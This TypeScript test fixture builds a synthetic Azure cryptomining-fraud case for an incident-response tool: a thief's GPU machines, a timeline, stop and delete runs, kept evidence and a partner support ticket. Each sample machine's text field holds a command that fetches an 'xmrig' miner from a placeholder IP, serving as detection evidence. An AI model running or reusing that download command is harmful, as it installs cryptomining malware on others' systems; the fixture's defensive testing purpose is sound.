import { replay } from '../../src/domain/apply.ts';
import { resourceKey } from '../../src/domain/azure-resource.ts';
import type { CaseEvent, Entry } from '../../src/domain/events.ts';
import type { MailId, PackId, PlanId, RunId } from '../../src/domain/ids.ts';
import type { InvestigatedResource, InvestigationSummary } from '../../src/domain/investigation.ts';
import { chain, firstHash } from '../../src/domain/journal.ts';
import { openCase } from '../../src/domain/open.ts';
import type { PackProfile } from '../../src/domain/pack.ts';
import type { Language } from '../../src/domain/partner.ts';
import type { Actor } from '../../src/domain/people.ts';
import type { Plan } from '../../src/domain/plan.ts';
import type { Run } from '../../src/domain/run.ts';
import type { KeptEvidence, PackSource } from '../../src/workflow/asking-ports.ts';
import { ada, homeTenant, remo, rosa } from './people.ts';
import { sampleCaseId, sampleDetection, startedAt, subscription } from './samples.ts';

const minute = 60_000;
const at = (minutes: number) => new Date(Date.parse(startedAt) + minutes * minute).toISOString();

/** Texts of a worked case that tell whether something got out that should not. */
export const told = {
  note: 'Their admin Bob drinks',
  reason: 'Nobody at the customer ordered these machines',
  ours: 'helpdesk.partner@fabrikam-csp.example',
  thief: 'j.doe@northwind.example',
  contact: 'anna.verdi@northwind.example',
  body: 'Dear Anna, please tell us whether you know of these machines.',
  machine: 'render-farm-07',
  address: '198.51.100.77',
  question: 'How did they get in?',
} as const;

const planId: PlanId = `plan_${'d'.repeat(32)}`;
const [stopId, deleteId]: readonly [RunId, RunId] = [`run_${'1'.repeat(32)}`, `run_${'2'.repeat(32)}`];
const mailId: MailId = `mail_${'e'.repeat(32)}`;

const machineId = (name: string) =>
  `/subscriptions/${subscription}/resourceGroups/rg-render/providers/Microsoft.Compute/virtualMachines/${name}`;

export function machineOf(index: number): InvestigatedResource {
  const name = index === 0 ? told.machine : `render-farm-${100 + index}`;
  const id = machineId(name);
  return {
    resource: {
      id,
      key: resourceKey(id),
      name,
      type: 'microsoft.compute/virtualmachines',
      location: 'brazilsouth',
      group: 'rg-render',
      tags: { contact: told.contact },
      size: 'Standard_NC24ads_A100_v4',
      refs: [],
      texts: [`curl http://${told.address}/xmrig`],
    },
    score: 91,
    level: 'strong',
    isNamed: index === 0,
    findings: [
      { rule: 'E1', weight: 30, values: {}, from: 'alert' },
      { rule: 'E6', weight: 15, values: { count: 12, minutes: 4, who: told.thief }, from: 'activity' },
    ],
    unchecked: [],
    burn: { from: 'prices', low: 3.4, high: 4.1, currency: 'EUR' },
    power: 'deallocated',
    locks: [],
  };
}

const summary: InvestigationSummary = {
  readAt: at(200),
  subscriptionName: 'Northwind Production',
  money: {
    burnt: { low: 812, high: 1044, currency: 'EUR' },
    unknown: 0,
    prices: { date: '2026-02-01', source: 'Azure retail prices' },
  },
  timeline: {
    entries: [
      {
        at: '2026-03-02T04:10:00.000Z',
        until: '2026-03-02T04:14:00.000Z',
        kind: 'created',
        correlationId: 'c1',
        creator: told.thief,
        resources: [resourceKey(machineId(told.machine))],
        regions: ['brazilsouth'],
        what: 'Standard_NC24ads_A100_v4',
        failed: false,
      },
      {
        at: '2026-03-02T03:55:00.000Z',
        until: '2026-03-02T03:55:00.000Z',
        kind: 'role-granted',
        correlationId: 'c0',
        creator: told.ours,
        resources: [],
        regions: [],
        what: 'Owner',
        failed: false,
      },
    ],
    creators: [
      {
        key: told.thief,
        kind: 'person',
        name: told.thief,
        addresses: [told.address],
        mfa: 'no',
        firstAt: '2026-03-02T04:10:00.000Z',
        suspects: [resourceKey(machineId(told.machine))],
        siblings: [],
      },
      {
        key: told.ours,
        kind: 'partner',
        name: told.ours,
        tenantId: homeTenant,
        addresses: [told.address],
        mfa: 'yes',
        firstAt: '2026-03-02T03:55:00.000Z',
        suspects: [],
        siblings: [],
      },
    ],
    since: '2025-12-02T08:00:00.000Z',
    gaps: [],
  },
  gaps: [{ what: 'defender', why: 'forbidden' }],
  counts: { all: 12, strong: 12, some: 0, weak: 0, none: 0, burning: 0 },
};

const plan: Plan = {
  id: planId,
  caseId: sampleCaseId,
  kind: 'resources',
  subscriptionId: subscription,
  subscriptionName: 'Northwind Production',
  by: ada,
  madeAt: at(100),
  expiresAt: at(115),
  items: [],
  excluded: [
    {
      key: resourceKey(machineId('database-01')),
      name: 'database-01',
      type: 'microsoft.compute/virtualmachines',
      why: 'locked',
      detail: 'do-not-touch',
    },
  ],
  dependants: [],
  leftovers: [],
  around: [],
  total: 12,
  needsSecond: true,
  guardsLifted: false,
  hash: 'f'.repeat(64),
};

function runOf(id: RunId, act: 'stop' | 'delete', from: number, until: number): Run {
  const items = [0, 1, 2].map((index) => {
    const { resource } = machineOf(index);
    return {
      id: resource.id,
      key: resource.key,
      name: resource.name,
      type: resource.type,
      location: resource.location,
      fingerprint: { mark: '6b1e6a3c-0000-4000-8000-000000000001' },
      action: 'act',
      waitsFor: [],
      state: 'done',
      asked: 1,
      tries: 0,
      endedAt: at(until),
      correlationIds: [],
    } as const;
  });
  const planned = act === 'delete' ? { planId } : {};
  return { id, caseId: sampleCaseId, act, by: remo, startedAt: at(from), endedAt: at(until), items, ...planned };
}

const byAda: Actor = { kind: 'person', person: ada };
const byRosa: Actor = { kind: 'person', person: rosa };
const clock = (name: 'source' | 'investigator' | 'reporter' | 'runner' | 'planner' | 'mailer' | 'memory'): Actor => ({
  kind: 'clock',
  name,
});
const resources = [resourceKey(machineId(told.machine))];
const counts = { done: 3, failed: 0, skipped: 0, unknown: 0, open: 0 };
const signs = { readAt: at(1), resources: 12, strong: 12, some: 0, gaps: 1 };
const goal = { status: 'resolved', reason: 'fraud' } as const;

/** What happened, and how many minutes after the case was opened. */
const story: readonly (readonly [minutes: number, actor: Actor, event: CaseEvent])[] = [
  [0, clock('source'), openCase(sampleDetection(), 17, undefined)],
  [4, byAda, { type: 'claimed', owner: ada }],
  [
    6,
    clock('investigator'),
    { type: 'investigated', signs: { ...signs, burning: 12, perHour: { low: 41, high: 49, currency: 'EUR' } } },
  ],
  [
    7,
    clock('memory'),
    {
      type: 'recalled',
      from: {
        caseId: `case_${'9'.repeat(32)}`,
        number: 9,
        by: rosa,
        at: at(-900),
        reason: told.reason,
        until: at(9000),
      },
      changes: [
        { what: 'pool', poolDomains: ['pool.example'] },
        { what: 'resource', keys: resources },
        { what: 'creator', count: 1, caller: [told.thief] },
      ],
      unchecked: ['cost'],
      isReading: false,
      readAt: at(6),
    },
  ],
  [9, byAda, { type: 'noted', text: told.note }],
  [12, byAda, { type: 'check-answered', check: 'standing', answer: 'good' }],
  [14, byAda, { type: 'check-answered', check: 'usage', answer: 'bad', note: told.note }],
  [
    15,
    byAda,
    {
      type: 'mail-asked',
      mail: { id: mailId, to: told.contact, subject: 'Please check', body: told.body, language: 'en' },
    },
  ],
  [16, clock('mailer'), { type: 'mail-begun', mailId }],
  [16, clock('mailer'), { type: 'mail-ended', mailId, state: 'sent' }],
  [58, byAda, { type: 'check-answered', check: 'customer', answer: 'bad', from: told.contact, way: 'call' }],
  [60, byAda, { type: 'decided', verdict: 'fraud', reason: told.reason, skipped: [] }],
  [60, byAda, { type: 'report-requested', goal }],
  [61, clock('reporter'), { type: 'reported', goal }],
  [65, byRosa, { type: 'stop-requested', runId: stopId, resources }],
  [71, clock('runner'), { type: 'run-ended', runId: stopId, counts }],
  [72, clock('investigator'), { type: 'investigated', signs: { ...signs, burning: 0 } }],
  [95, byAda, { type: 'plan-requested', planId, kind: 'resources', resources, withAttached: true, liftGuards: false }],
  [
    100,
    clock('planner'),
    {
      type: 'plan-frozen',
      planId,
      hash: plan.hash,
      subscriptionName: 'Northwind Production',
      items: 3,
      expiresAt: at(115),
      needsSecond: true,
    },
  ],
  [108, byRosa, { type: 'plan-approved', planId, hash: plan.hash, runId: deleteId }],
  [118, clock('runner'), { type: 'run-ended', runId: deleteId, counts }],
  [
    150,
    byAda,
    {
      type: 'support-composed',
      kind: 'partner-center',
      form: {
        title: 'Cryptomining notification',
        problemType: 'Adding or managing customers',
        impact: 'moderate',
        description: `Northwind Production\n${told.question}`,
        contactName: 'Ada Okoro',
        contactEmail: 'ada@fabrikam-csp.example',
      },
      remindAt: at(270),
    },
  ],
  [160, byAda, { type: 'support-filed', kind: 'partner-center', number: '2603020050001234' }],
];

const days = Array.from({ length: 28 }, (_, i) => ({
  date: new Date(Date.parse('2026-02-02T00:00:00Z') + i * 86_400_000).toISOString().slice(0, 10),
  cost: i === 27 ? 612.4 : 18 + (i % 7) * 1.7,
}));

function activityEvent(index: number, caller: string, tenant: string) {
  return {
    caller,
    claims: { name: caller, 'http://schemas.microsoft.com/identity/claims/tenantid': tenant, ipaddr: told.address },
    correlationId: `correlation-${index}`,
    eventDataId: `event-${index}`,
    eventTimestamp: '2026-03-02T04:10:00.000Z',
    httpRequest: { clientIpAddress: told.address },
    operationName: { value: 'Microsoft.Compute/virtualMachines/write' },
    resourceId: machineId(told.machine),
    status: { value: 'Succeeded' },
  };
}

const kept: readonly KeptEvidence[] = [
  {
    planId,
    kind: 'activity-log',
    name: '1',
    content: [activityEvent(1, told.thief, 'customer'), activityEvent(2, told.ours, homeTenant)],
    keptAt: at(109),
  },
  { planId, kind: 'resource', name: machineId(told.machine), content: { owner: told.contact }, keptAt: at(109) },
  { planId, kind: 'deployment', name: 'rg-render', content: null, error: 'no right', keptAt: at(109) },
];

export interface PackSourceChange {
  readonly profile?: PackProfile;
  readonly language?: Language;
  /** What happened besides, an hour after the story. */
  readonly more?: readonly (readonly [actor: Actor, event: CaseEvent])[];
  readonly machines?: number;
  readonly activityPages?: () => AsyncIterable<KeptEvidence>;
}

async function* each<T>(items: Iterable<T>): AsyncGenerator<T> {
  yield* items;
}

/** A case from the alert to the last machine gone, with everything that a pack can hold. */
export function packSource(change: PackSourceChange = {}): PackSource {
  const { profile = 'full', language = 'en', more = [], machines = 12, activityPages } = change;
  const all = [...story, ...more.map(([actor, event], i) => [220 + i, actor, event] as const)];
  const entries = all.map(
    ([minutes, actor, event], i): Entry => ({ caseId: sampleCaseId, seq: i + 1, at: at(minutes), actor, event }),
  );
  const journal = chain(entries, firstHash);
  const c = replay(journal);
  if (c === undefined) throw new Error('the story has no beginning');
  const packId: PackId = `pack_${'a'.repeat(32)}`;
  return {
    wish: { id: packId, caseId: sampleCaseId, profile, language, by: ada, askedAt: at(300) },
    case: c,
    head: journal.at(-1)?.hash ?? firstHash,
    journal,
    partner: { name: 'Fabrikam Cloud Services', tenantId: homeTenant },
    names: { customerName: 'Northwind Traders', subscriptionName: 'Northwind Production' },
    facts: {
      usage: {
        check: 'usage',
        readAt: at(1),
        facts: {
          state: 'known',
          value: {
            currency: 'EUR',
            days,
            spike: { kind: 'spike', date: '2026-03-01', cost: 612.4, usual: 23.1, times: 26.5 },
            newResources: { state: 'known', value: [] },
          },
        },
      },
      customer: {
        check: 'customer',
        readAt: at(1),
        facts: {
          state: 'known',
          value: { customerName: 'Northwind Traders', email: told.contact, contactName: 'Anna Verdi' },
        },
      },
    },
    summary,
    plans: [plan],
    runs: [runOf(stopId, 'stop', 65, 71), runOf(deleteId, 'delete', 108, 118)],
    rawAlerts: [{ externalId: 'alert-0', raw: { id: 'alert-0', valueAddedResellerTenantId: 'reseller' } }],
    resources: () => each(Array.from({ length: machines }, (_, i) => machineOf(i))),
    evidence: (kinds) =>
      kinds.includes('activity-log') && activityPages
        ? activityPages()
        : each(kept.filter(({ kind }) => kinds.includes(kind))),
  };
}
